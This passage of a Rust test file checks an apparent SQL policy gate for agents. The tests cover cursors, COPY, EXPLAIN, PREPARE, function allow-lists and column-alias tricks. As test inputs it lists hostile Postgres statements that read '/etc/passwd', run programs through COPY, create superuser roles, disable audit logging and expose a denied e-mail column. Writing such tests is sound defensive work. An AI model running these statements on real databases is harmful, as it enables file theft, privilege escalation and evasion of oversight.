        (A, "COPY audit.log TO STDOUT", "table_not_allowed"),
        (
            A,
            "COPY (SELECT * FROM payment_methods) TO STDOUT",
            "table_denied",
        ),
        (
            A,
            "COPY (SELECT email FROM customers) TO STDOUT",
            "column_denied",
        ),
        (
            A,
            "COPY (SELECT id FROM orders) TO STDOUT WITH (FORMAT binary)",
            "allow",
        ),
        // … but COPY FROM STDIN stays a write, and server-side ends never.
        (A, "COPY orders FROM STDIN", "statement_class_denied"),
        (S, "COPY refunds FROM STDIN", "statement_class_denied"),
        (A, "COPY orders TO '/tmp/orders'", "copy_server_side"),
        (
            A,
            "COPY (SELECT id FROM orders) TO PROGRAM 'id'",
            "copy_server_side",
        ),
        (A, "COPY orders TO STDOUT;\n1\n\\.\n", "deny"),
        // EXPLAIN without ANALYZE; EXPLAIN ANALYZE still needs `explain`.
        (A, "EXPLAIN SELECT id FROM orders", "allow"),
        (
            A,
            "EXPLAIN (FORMAT JSON, COSTS off) SELECT id FROM orders",
            "allow",
        ),
        (A, "EXPLAIN SELECT * FROM staff_users", "table_denied"),
        (A, "EXPLAIN SELECT email FROM customers", "column_denied"),
        (
            A,
            "EXPLAIN DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN ANALYZE SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (ANALYZE) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (analyze) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (ANALYZE true) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (ANALYZE on) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (ANALYZE 1) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (ANALYZE 'yes') SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "EXPLAIN (FORMAT JSON, ANALYZE, BUFFERS) SELECT id FROM orders",
            "statement_class_denied",
        ),
        (A, "EXPLAIN (ANALYZE off) SELECT id FROM orders", "allow"),
        (
            A,
            "EXPLAIN ANALYZE DELETE FROM orders",
            "statement_class_denied",
        ),
        (
            T,
            "EXPLAIN (ANALYZE) DELETE FROM orders WHERE id = 1",
            "allow",
        ),
        (A, "EXPLAIN CREATE TABLE x AS SELECT * FROM orders", "deny"),
        (
            A,
            "EXPLAIN SELECT * INTO stolen FROM orders",
            "statement_class_denied",
        ),
        // PREPARE / EXECUTE / DEALLOCATE.
        (A, "PREPARE p AS SELECT id FROM orders", "allow"),
        (
            A,
            "PREPARE p (int) AS SELECT id FROM orders WHERE id = $1",
            "allow",
        ),
        (
            A,
            "PREPARE p AS SELECT id FROM orders; EXECUTE p; DEALLOCATE p",
            "allow",
        ),
        (
            A,
            "PREPARE p (int) AS SELECT id FROM orders WHERE id = $1; EXECUTE p (7)",
            "allow",
        ),
        (
            A,
            "PREPARE p AS SELECT email FROM customers",
            "column_denied",
        ),
        (A, "PREPARE p AS SELECT * FROM staff_users", "table_denied"),
        (
            A,
            "PREPARE p AS DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "PREPARE p AS UPDATE orders SET status = 'x' WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "EXECUTE p", "unknown_prepared_statement"),
        (A, "EXECUTE p (1)", "unknown_prepared_statement"),
        (
            A,
            "PREPARE p AS SELECT 1; EXECUTE q",
            "unknown_prepared_statement",
        ),
        (A, "PREPARE TRANSACTION 'x'", "deny"),
        (
            S,
            "PREPARE p AS UPDATE orders SET status = 'x' WHERE id = 1",
            "allow",
        ),
        (
            S,
            "PREPARE p AS UPDATE orders SET status = 'x'",
            "missing_where",
        ),
        (
            S,
            "PREPARE p AS DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        // A write cap or row limit cannot follow a statement into PREPARE
        // (its EXECUTE names no table) nor a table's row limit into FETCH.
        (
            "capped",
            "PREPARE p AS UPDATE orders SET status = 'x' WHERE id = 1",
            "runtime_control_prepare",
        ),
        (
            "capped",
            "PREPARE p AS DELETE FROM orders WHERE id = 1",
            "runtime_control_prepare",
        ),
        (
            "capped",
            "UPDATE orders SET status = 'x' WHERE id = 1",
            "allow",
        ),
        ("capped", "PREPARE p AS SELECT id FROM orders", "allow"),
        (
            "limited",
            "PREPARE p AS SELECT id FROM orders",
            "runtime_control_prepare",
        ),
        (
            "limited",
            "PREPARE p AS SELECT id FROM products",
            "runtime_control_prepare",
        ),
        (
            "limited",
            "DECLARE c CURSOR FOR SELECT id FROM orders",
            "allow",
        ),
        (
            "limited",
            "DECLARE c CURSOR FOR SELECT id FROM products",
            "row_limit_cursor",
        ),
        (
            "limited",
            "DECLARE c CURSOR FOR SELECT o.id FROM orders o JOIN products p ON p.id = o.id",
            "row_limit_cursor",
        ),
        ("limited", "SELECT id FROM products", "allow"),
        ("limited", "COPY products TO STDOUT", "allow"),
        ("limited", "EXPLAIN SELECT id FROM products", "allow"),
        ("limited", "FETCH ALL FROM c", "allow"),
        // A DBA turns each off explicitly; explicit deny wins.
        (R, "SELECT id FROM orders", "allow"),
        (
            R,
            "DECLARE c CURSOR FOR SELECT id FROM orders",
            "statement_class_denied",
        ),
        (R, "FETCH 10 FROM c", "statement_class_denied"),
        (R, "COPY orders TO STDOUT", "statement_class_denied"),
        (
            R,
            "COPY (SELECT id FROM orders) TO STDOUT",
            "statement_class_denied",
        ),
        (R, "EXPLAIN SELECT id FROM orders", "statement_class_denied"),
        (
            R,
            "PREPARE p AS SELECT id FROM orders",
            "statement_class_denied",
        ),
        (R, "EXECUTE p", "statement_class_denied"),
        // Releasing what the session holds stays allowed (pool resets).
        (R, "CLOSE c", "allow"),
        (R, "CLOSE ALL", "allow"),
        (R, "DEALLOCATE ALL", "allow"),
        // Without the driver profile each wrapper needs its own class.
        (P, "SELECT id FROM orders", "allow"),
        (
            P,
            "DECLARE c CURSOR FOR SELECT id FROM orders",
            "statement_class_denied",
        ),
        (P, "FETCH 10 FROM c", "statement_class_denied"),
        (P, "COPY orders TO STDOUT", "statement_class_denied"),
        (
            P,
            "COPY (SELECT id FROM orders) TO STDOUT",
            "statement_class_denied",
        ),
        (P, "EXPLAIN SELECT id FROM orders", "statement_class_denied"),
        (
            P,
            "PREPARE p AS SELECT id FROM orders",
            "statement_class_denied",
        ),
        (P, "EXECUTE p", "statement_class_denied"),
    ]);
}

/// Scoped tables (tests/rules/scoped.toml, customer 42): a cursor, COPY,
/// EXPLAIN or PREPARE over a scoped table needs the scope predicate like
/// the statement itself.
#[test]
fn wrapped_reads_of_scoped_tables_keep_their_scope() {
    let c42 = [("customer_id", "42")];
    let cases: &[(&str, &str)] = &[
        ("DECLARE c CURSOR FOR SELECT * FROM orders", "scope_missing"),
        (
            "DECLARE c CURSOR FOR SELECT * FROM orders WHERE customer_id = 42",
            "allow",
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM orders WHERE customer_id = 43",
            "scope_violation",
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM orders WHERE customer_id = 42 OR true",
            "scope_missing|scope_violation",
        ),
        ("COPY orders TO STDOUT", "scope_missing|scope_unverifiable"),
        (
            "COPY orders (id, status) TO STDOUT",
            "scope_missing|scope_unverifiable",
        ),
        ("COPY (SELECT * FROM orders) TO STDOUT", "scope_missing"),
        (
            "COPY (SELECT * FROM orders WHERE customer_id = 42) TO STDOUT",
            "allow",
        ),
        (
            "COPY (SELECT * FROM orders WHERE customer_id = 43) TO STDOUT",
            "scope_violation",
        ),
        ("EXPLAIN SELECT * FROM orders", "scope_missing"),
        (
            "EXPLAIN SELECT * FROM orders WHERE customer_id = 42",
            "allow",
        ),
        (
            "EXPLAIN SELECT * FROM orders WHERE customer_id = 43",
            "scope_violation",
        ),
        ("PREPARE p AS SELECT * FROM orders", "scope_missing"),
        (
            "PREPARE p AS SELECT * FROM orders WHERE customer_id = 42",
            "allow",
        ),
        // The EXECUTE's arguments could not be checked.
        (
            "PREPARE p (bigint) AS SELECT * FROM orders WHERE customer_id = $1",
            "scope_parameter",
        ),
        (
            "PREPARE p (int) AS UPDATE orders SET total_cents = $1 WHERE customer_id = 42",
            "deny",
        ),
    ];
    let mut failures = Vec::new();
    for (sql, expected) in cases {
        let got = common::policy::outcome_with_claims("scoped", sql, &c42);
        if !matches(expected, &got) {
            failures.push(format!("  {sql}\n      expected {expected}, got {got}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// `[deny] statements` compiles strictly: unknown or repeated classes, and
/// a class both allowed and denied, are errors naming file and line.
#[test]
fn deny_statements_compile_strictly() {
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\"]\n\n[deny]\nstatements = [\"cursors\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(e.contains("unknown statement class \"cursors\""), "{e}");
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\"]\n\n[deny]\nstatements = [\"copy\", \"copy\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(e.contains("statement class \"copy\" listed twice"), "{e}");
    let e = common::rules_error(
        "[policy]\nstatements = [\"read\", \"explain\"]\n\n[deny]\nstatements = [\"explain\"]\n",
    );
    assert!(e.contains("x.toml:10:"), "{e}");
    assert!(
        e.contains("statement class \"explain\" is both allowed and denied"),
        "{e}"
    );
}

/// A SQL EXECUTE is implied only for what SQL PREPARE prepared: a
/// statement prepared by Parse is held at Bind to checks and limits that
/// EXECUTE's arguments would skip.
#[test]
fn sql_execute_of_a_parse_prepared_statement_needs_the_class() {
    let mut session = actgate::policy::SessionState::default();
    session.parsed("s", Vec::new());
    let reason = |agent: &str, sql: &str| match common::policy::verdict_in(agent, sql, &session) {
        actgate::policy::Verdict::Allow => "allow".to_owned(),
        actgate::policy::Verdict::Deny(d) => d.reason.to_owned(),
    };
    assert_eq!(reason(A, "EXECUTE s"), "statement_class_denied");
    assert_eq!(reason(A, "EXECUTE s (1)"), "statement_class_denied");
    assert_eq!(reason(A, "EXPLAIN EXECUTE s"), "statement_class_denied");
    assert_eq!(reason(T, "EXECUTE s"), "allow");
    assert_eq!(reason(A, "EXECUTE t"), "unknown_prepared_statement");
    assert_eq!(
        reason(A, "PREPARE t AS SELECT id FROM orders; EXECUTE t"),
        "allow"
    );
    assert_eq!(
        reason(A, "PREPARE t AS SELECT id FROM orders; EXPLAIN EXECUTE t"),
        "allow"
    );
}

/// The remaining statement classes.
#[test]
fn other_statement_classes() {
    check(&[
        // PREPARE, EXECUTE and cursors are judged by what they wrap under
        // the driver profile (issue 12).
        (A, "PREPARE p AS SELECT 1", "allow"),
        (A, "PREPARE p AS SELECT * FROM staff_users", "table_denied"),
        (T, "PREPARE p AS SELECT * FROM orders", "allow"),
        (
            T,
            "PREPARE p (int) AS SELECT * FROM orders WHERE id = $1",
            "allow",
        ),
        (T, "PREPARE p AS DELETE FROM orders WHERE id = 1", "allow"),
        (
            T,
            "PREPARE p AS SELECT * FROM pg_authid",
            "credential_catalog",
        ),
        (
            T,
            "PREPARE p AS SELECT nextval('orders_id_seq')",
            "function_not_allowed",
        ),
        (A, "EXECUTE p", "unknown_prepared_statement"),
        (T, "EXECUTE p", "unknown_prepared_statement"),
        (T, "EXECUTE p (1)", "unknown_prepared_statement"),
        // Postgres runs these in order: the EXECUTE uses the PREPARE.
        (T, "PREPARE p AS SELECT 1; EXECUTE p", "allow"),
        (A, "DEALLOCATE p", "allow"),
        (T, "DEALLOCATE p", "allow"),
        (T, "DEALLOCATE ALL", "allow"),
        (T, "DEALLOCATE PREPARE p", "allow"),
        (A, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
        (
            A,
            "DECLARE c CURSOR FOR SELECT * FROM staff_users",
            "table_denied",
        ),
        (T, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
        (T, "FETCH 10 FROM c", "allow"),
        (T, "CLOSE c", "allow"),
        (
            A,
            "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
            "parse_error|unsupported_statement",
        ),
        (
            T,
            "DO $$ BEGIN DELETE FROM orders; END $$",
            "parse_error|unsupported_statement",
        ),
        (
            T,
            "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
            "parse_error|unsupported_statement",
        ),
        (A, "CALL refresh_stats()", "statement_class_denied"),
        (T, "CALL refresh_stats()", "statement_class_denied"),
        (A, "LISTEN orders_changed", "statement_class_denied"),
        (A, "UNLISTEN *", "allow"),
        (A, "NOTIFY orders_changed, 'x'", "statement_class_denied"),
        (S, "NOTIFY orders_changed", "statement_class_denied"),
        (T, "LISTEN orders_changed", "allow"),
        (T, "NOTIFY orders_changed, 'hello'", "allow"),
        (T, "UNLISTEN *", "allow"),
        (A, "VACUUM orders", "statement_class_denied"),
        (A, "VACUUM FULL", "statement_class_denied"),
        (A, "ANALYZE orders", "statement_class_denied"),
        (A, "ANALYZE", "statement_class_denied"),
        (T, "VACUUM orders", "statement_class_denied"),
        (T, "ANALYZE orders", "statement_class_denied"),
        (A, "VACUUM staff_users", "table_denied"),
        (
            A,
            "GRANT SELECT ON orders TO PUBLIC",
            "statement_class_denied",
        ),
        (
            A,
            "GRANT SELECT ON staff_users TO analytics",
            "statement_class_denied|table_denied",
        ),
        (
            A,
            "REVOKE ALL ON orders FROM PUBLIC",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
            "role_management_denied",
        ),
        (
            A,
            "ALTER ROLE analytics SUPERUSER",
            "role_management_denied",
        ),
        (
            A,
            "ALTER USER analytics WITH PASSWORD 'x'",
            "role_management_denied",
        ),
        (A, "GRANT postgres TO analytics", "role_management_denied"),
        (
            T,
            "GRANT SELECT ON orders TO PUBLIC",
            "statement_class_denied",
        ),
        (T, "CREATE ROLE evil SUPERUSER", "role_management_denied"),
        (
            T,
            "CREATE POLICY p ON orders USING (true)",
            "statement_class_denied",
        ),
        (A, "ALTER SYSTEM SET log_statement = 'none'", "deny"),
        (A, "CREATE TABLE t (id int)", "statement_class_denied"),
        (A, "DROP TABLE orders", "statement_class_denied"),
        (A, "DROP TABLE staff_users", "table_denied"),
        (
            A,
            "DROP TABLE IF EXISTS orders, staff_users CASCADE",
            "table_denied",
        ),
        (
            A,
            "ALTER TABLE orders ADD COLUMN x int",
            "statement_class_denied",
        ),
        (
            A,
            "ALTER TABLE staff_users ADD COLUMN x int",
            "table_denied",
        ),
        (
            A,
            "CREATE INDEX ON orders (status)",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE VIEW v AS SELECT * FROM staff_users",
            "table_denied",
        ),
        (
            A,
            "CREATE VIEW v AS SELECT id FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "COMMENT ON TABLE orders IS 'x'",
            "statement_class_denied",
        ),
        (A, "CREATE EXTENSION dblink", "statement_class_denied"),
        (
            A,
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "statement_class_denied",
        ),
        (A, "TRUNCATE orders", "statement_class_denied"),
        (A, "TRUNCATE staff_users", "table_denied"),
        (S, "TRUNCATE refunds", "statement_class_denied"),
        (S, "CREATE TABLE t (id int)", "statement_class_denied"),
        (
            S,
            "MERGE INTO refunds r USING orders o ON r.order_id = o.id WHEN NOT MATCHED THEN INSERT (order_id, amount_cents, reason, created_by) VALUES (o.id, 1, 'x', 'kpatel')",
            "statement_class_denied",
        ),
        (T, "CREATE TABLE t (id int)", "allow"),
        (T, "CREATE TABLE public.t (id int)", "allow"),
        (T, "CREATE TABLE audit.t (id int)", "table_not_allowed"),
        (T, "CREATE TABLE pg_catalog.t (id int)", "catalog_write"),
        (T, "DROP TABLE orders", "allow"),
        (T, "DROP TABLE pg_catalog.pg_class", "catalog_write"),
        (T, "DROP TABLE audit.log", "table_not_allowed"),
        (T, "ALTER TABLE orders ADD COLUMN x int", "allow"),
        (
            T,
            "ALTER TABLE orders ADD COLUMN x int DEFAULT nextval('s')",
            "function_not_allowed",
        ),
        (T, "TRUNCATE orders", "allow"),
        (T, "TRUNCATE audit.log", "table_not_allowed"),
        (T, "CREATE INDEX ON orders (status)", "allow"),
        (T, "CREATE VIEW v AS SELECT * FROM orders", "allow"),
        (
            T,
            "CREATE VIEW v AS SELECT * FROM pg_authid",
            "credential_catalog",
        ),
        // DDL on objects outside the schemas the agent has ddl rights in.
        (T, "DROP SCHEMA audit CASCADE", "deny"),
        (T, "DROP VIEW audit.v", "table_not_allowed"),
        (T, "CREATE SCHEMA evil", "deny"),
        (A, "BEGIN", "allow"),
        (
            A,
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
            "allow",
        ),
        (A, "SAVEPOINT a", "allow"),
        (A, "RELEASE SAVEPOINT a", "allow"),
        (A, "ROLLBACK TO SAVEPOINT a", "allow"),
        (A, "COMMIT", "allow"),
        (A, "ROLLBACK", "allow"),
        (A, "END", "allow"),
        (A, "PREPARE TRANSACTION 'x'", "deny"),
    ]);
}

/// Only an allow-list of functions can work (SECURITY: "Read-only" that
/// writes).
#[test]
fn functions_not_allowed() {
    check(&[
        (A, "SELECT pg_sleep(1)", "function_not_allowed"),
        (
            A,
            "SELECT pg_terminate_backend(1234)",
            "function_not_allowed",
        ),
        (A, "SELECT pg_cancel_backend(1234)", "function_not_allowed"),
        (
            A,
            "SELECT set_config('statement_timeout', '0', false)",
            "allow",
        ),
        (A, "SELECT current_setting('data_directory')", "allow"),
        (
            A,
            "SELECT query_to_xml('SELECT * FROM staff_users', true, false, '')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT table_to_xml('staff_users', true, false, '')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT dblink_connect('x', 'dbname=shop')",
            "function_not_allowed",
        ),
        (A, "SELECT lo_import('/etc/passwd')", "function_not_allowed"),
        (
            A,
            "SELECT lo_export(1234, '/tmp/x')",
            "function_not_allowed",
        ),
        (A, "SELECT lo_get(1234)", "function_not_allowed"),
        (A, "SELECT nextval('orders_id_seq')", "function_not_allowed"),
        (
            A,
            "SELECT setval('orders_id_seq', 1)",
            "function_not_allowed",
        ),
        (A, "SELECT currval('orders_id_seq')", "function_not_allowed"),
        (A, "SELECT pg_notify('ch', 'x')", "function_not_allowed"),
        (
            A,
            "SELECT pg_read_binary_file('/etc/passwd')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT pg_read_file('/etc/passwd')",
            "function_not_allowed",
        ),
        (A, "SELECT pg_ls_dir('.')", "function_not_allowed"),
        (
            A,
            "SELECT pg_stat_file('postgresql.conf')",
            "function_not_allowed",
        ),
        (A, "SELECT pg_reload_conf()", "function_not_allowed"),
        (A, "SELECT pg_advisory_lock(1)", "function_not_allowed"),
        (A, "SELECT pg_switch_wal()", "function_not_allowed"),
        (
            A,
            "SELECT pg_logical_emit_message(true, 'x', 'y')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')",
            "function_not_allowed",
        ),
        // Case and qualification do not launder a name.
        (A, "SELECT PG_CATALOG.PG_SLEEP(1)", "function_not_allowed"),
        (A, "SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
        (
            A,
            r#"SELECT "pg_catalog"."pg_sleep"(1)"#,
            "function_not_allowed",
        ),
        (A, r#"SELECT "pg_sleep"(1)"#, "function_not_allowed"),
        (A, "SELECT Pg_Sleep(1)", "function_not_allowed"),
        (A, "SELECT public.pg_sleep(1)", "function_not_allowed"),
        (A, "SELECT public.lower('X')", "function_not_allowed"),
        (T, "SELECT pg_sleep(0.1)", "allow"),
        (T, "SELECT pg_notify('ch', 'x')", "allow"),
        (T, "SELECT pg_terminate_backend(1)", "function_not_allowed"),
        (
            S,
            "SELECT lower(email) FROM customers WHERE id = 1",
            "allow",
        ),
        (
            A,
            "SELECT pg_catalog.lower('X'), pg_catalog.count(*) FROM orders",
            "allow",
        ),
    ]);
}

/// A denied function is found wherever it is called.
#[test]
fn functions_in_every_position() {
    check(&[
        (A, "SELECT pg_sleep(1) FROM orders", "function_not_allowed"),
        (
            A,
            "SELECT id FROM orders WHERE pg_sleep(1) IS NOT NULL",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders ORDER BY pg_sleep(0)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT 1 FROM orders GROUP BY pg_sleep(1)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT status FROM orders GROUP BY status HAVING max(pg_sleep(0)::text) IS NULL",
            "function_not_allowed",
        ),
        (A, "SELECT * FROM pg_sleep(1)", "function_not_allowed"),
        (
            A,
            "SELECT id FROM orders o JOIN order_items i ON pg_sleep(0) IS NULL",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT CASE WHEN id = 1 THEN pg_sleep(1) END FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT CASE pg_backend_pid() WHEN 1 THEN 1 ELSE pg_sleep(1)::int END",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT coalesce(nullif(lower(upper(pg_sleep(1)::text)), ''), 'x')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT sum(id) OVER (PARTITION BY pg_sleep(0)) FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT sum(id) OVER (ORDER BY pg_sleep(0)::text) FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT sum(id) OVER w FROM orders WINDOW w AS (PARTITION BY pg_sleep(0))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT count(*) FILTER (WHERE pg_sleep(0) IS NULL) FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT string_agg(status, ',' ORDER BY pg_sleep(0)::text) FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT DISTINCT ON (pg_sleep(0)::text) id FROM orders",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders LIMIT pg_backend_pid() + length(pg_sleep(0)::text)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders OFFSET nextval('s')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT x FROM (VALUES (pg_sleep(1))) v(x)",
            "function_not_allowed",
        ),
        (
            A,
            "VALUES (nextval('orders_id_seq'))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT 1 UNION SELECT nextval('orders_id_seq')",
            "function_not_allowed",
        ),
        (
            A,
            "WITH x AS (SELECT nextval('orders_id_seq') AS n) SELECT n FROM x",
            "function_not_allowed",
        ),
        (A, "SELECT ARRAY[pg_sleep(1)]", "function_not_allowed"),
        (
            A,
            "SELECT CAST(pg_sleep(1) AS text)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders WHERE id IN (1, nextval('s'))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders WHERE id BETWEEN 1 AND nextval('s')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT make_interval(days => nextval('s')::int)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_backend_pid() + nextval('s'))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT (SELECT (SELECT pg_sleep(1)))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT EXISTS (SELECT 1 WHERE pg_sleep(1) IS NULL)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT count(*) FROM orders TABLESAMPLE SYSTEM (pg_backend_pid() + nextval('s'))",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders WHERE status = 'x' AND (id > 1 OR pg_sleep(1) IS NULL)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT id FROM orders WHERE NOT (pg_sleep(1) IS NOT NULL)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT lower(status COLLATE \"C\") || pg_sleep(1)::text FROM orders",
            "function_not_allowed",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, set_config('role', 'postgres', false), 'kpatel')",
            "function_not_allowed|setting_pinned|setting_denied",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING pg_sleep(1)",
            "function_not_allowed",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT DO NOTHING RETURNING nextval('s')",
            "function_not_allowed",
        ),
        (
            S,
            "UPDATE orders SET notes = current_setting('app.user_id') WHERE id = 1",
            "function_not_allowed|setting_denied",
        ),
        (
            S,
            "UPDATE orders SET status = 'x' WHERE id = 1 AND pg_sleep(1) IS NOT NULL",
            "function_not_allowed",
        ),
        (
            S,
            "UPDATE orders SET status = 'x' FROM generate_series(1, pg_sleep(1)::text::int) g WHERE orders.id = g",
            "function_not_allowed",
        ),
        (
            S,
            "SELECT id FROM orders WHERE id = 1 FOR UPDATE OF orders SKIP LOCKED; SELECT lo_import('/etc/passwd')",
            "function_not_allowed",
        ),
        (A, "SET statement_timeout = pg_sleep(1)", "deny"),
    ]);
}

/// `*`, `t.*` and whole-row references read every column.
#[test]
fn whole_row_and_star() {
    check(&[
        (A, "SELECT c FROM customers c", "column_denied"),
        (A, "SELECT customers FROM customers", "column_denied"),
        (A, "SELECT row_to_json(c) FROM customers c", "column_denied"),
        (
            A,
            "SELECT to_jsonb(c) - 'email' FROM customers c",
            "column_denied",
        ),
        (A, "SELECT json_agg(c) FROM customers c", "column_denied"),
        (A, "SELECT c.* FROM customers c", "column_denied"),
        (A, "SELECT customers.* FROM customers", "column_denied"),
        (
            A,
            "SELECT public.customers.* FROM customers",
            "column_denied",
        ),
        (A, "SELECT (c.*)::text FROM customers c", "column_denied"),
        (A, "SELECT count(c.*) FROM customers c", "column_denied"),
        (A, "SELECT count(c) FROM customers c", "column_denied"),
        (A, "SELECT ROW(c.*) FROM customers c", "column_denied"),
        (A, "SELECT (c).email FROM customers c", "column_denied"),
        (A, "SELECT c IS NULL FROM customers c", "column_denied"),
        (
            A,
            "SELECT (SELECT c FROM orders LIMIT 1) FROM customers c",
            "column_denied",
        ),
        (
            A,
            "SELECT o.id, c FROM orders o JOIN customers c ON c.id = o.customer_id",
            "column_denied",
        ),
        (A, "SELECT * FROM customers, orders", "column_denied"),
        (
            A,
            "SELECT o.*, c.* FROM orders o JOIN customers c ON c.id = o.customer_id",
            "column_denied",
        ),
        (A, "SELECT * FROM refunds", "column_denied"),
        (A, "SELECT r FROM refunds r", "column_denied"),
        (
            A,
            "SELECT id, order_id, amount_cents, reason, created_at FROM refunds",
            "allow",
        ),
        (A, "SELECT created_by FROM refunds", "column_denied"),
        (A, "SELECT o FROM orders o", "allow"),
        (A, "SELECT row_to_json(o) FROM orders o", "allow"),
        (A, "SELECT o.* FROM orders o", "allow"),
        (
            A,
            "SELECT * FROM orders o JOIN order_items i ON i.order_id = o.id",
            "allow",
        ),
        (A, "SELECT count(*) FROM customers", "allow"),
        (A, "SELECT count(1) FROM customers", "allow"),
        (A, "SELECT count(id) FROM customers", "allow"),
        (
            A,
            "SELECT count(DISTINCT email) FROM customers",
            "column_denied",
        ),
        (
            A,
            "SELECT id, country, loyalty_tier, marketing_opt_in, created_at FROM customers",
            "allow",
        ),
        // Attribute notation calls a function on the whole row: `c.to_json`
        // is to_json(c) (PG 15 returns every column, e-mail included).
        (
            A,
            "SELECT c.to_json FROM customers c",
            "column_denied|function_not_allowed",
        ),
        (
            S,
            "SELECT c.to_json FROM customers c WHERE c.id = 1",
            "column_denied|function_not_allowed",
        ),
        (
            S,
            "SELECT c.row_to_json FROM customers c WHERE c.id = 1",
            "column_denied|function_not_allowed",
        ),
        (
            S,
            "SELECT customers.to_jsonb FROM customers WHERE id = 1",
            "column_denied|function_not_allowed",
        ),
        // Functional notation for a column: `email(c)` is c.email.
        (
            A,
            "SELECT email(c) FROM customers c",
            "column_denied|function_not_allowed",
        ),
        (S, "SELECT * FROM customers WHERE id = 1", "column_denied"),
        (
            S,
            "SELECT c FROM customers c WHERE c.id = 1",
            "column_denied",
        ),
        (
            S,
            "SELECT marketing_opt_in FROM customers WHERE id = 1",
            "column_denied",
        ),
        (
            S,
            "SELECT id, email, full_name, phone FROM customers WHERE id = 1",
            "allow",
        ),
        (S, "SELECT * FROM orders WHERE customer_id = 1", "allow"),
    ]);
}

/// A table alias with a column list renames the table's columns, in order:
/// `customers AS c(a, x)` makes `x` the e-mail column (checked on PG 15).
#[test]
fn table_column_aliases() {
    check(&[
        (A, "SELECT x FROM customers AS c(a, x)", "column_denied"),
        (A, "SELECT c.x FROM customers AS c(a, x)", "column_denied"),
        // Renaming a denied column to an allowed name.
        (
            A,
            "SELECT country FROM customers c(id, country, full_name, phone, x)",
            "column_denied",
        ),
        (
            A,
            "SELECT c.country FROM customers c(id, country, full_name, phone, x)",
            "column_denied",
        ),
        (
            A,
            "SELECT b FROM customers c(id, b) JOIN orders o ON o.customer_id = c.id",
            "column_denied",
        ),
        (
            A,
            "SELECT j.b FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j(a, b)",
            "column_denied|unsupported_statement",
        ),
        (
            S,
            "SELECT c.m FROM customers c(a, b, d, e, f, g, m) WHERE c.a = 1",
            "column_denied",
        ),
        (
            S,
            "SELECT m FROM customers c(a, b, d, e, f, g, m) WHERE a = 1",
            "column_denied",
        ),
        // Harmless renames stay allowed.
        (A, "SELECT i FROM customers AS c(i)", "allow"),
